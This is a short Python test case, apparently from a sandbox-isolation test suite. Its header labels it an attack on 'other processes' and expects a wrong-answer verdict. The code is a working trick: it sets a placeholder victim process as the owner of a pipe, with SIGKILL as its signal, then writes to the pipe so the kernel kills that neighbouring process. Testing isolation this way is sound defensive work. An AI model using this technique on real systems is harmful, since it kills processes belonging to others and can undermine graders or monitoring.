# class: other processes
# attack: the kernel is told to send a signal to a process next door
# needs: sandbox
# expects double-values: wrong_answer
# expects double-gradients: wrong_answer

# %%
import ctypes
import os
import signal
from contextlib import suppress


import fcntl
import time

with suppress(OSError):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, @victim@)
    fcntl.fcntl(reader, 10, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")
    time.sleep(0.1)
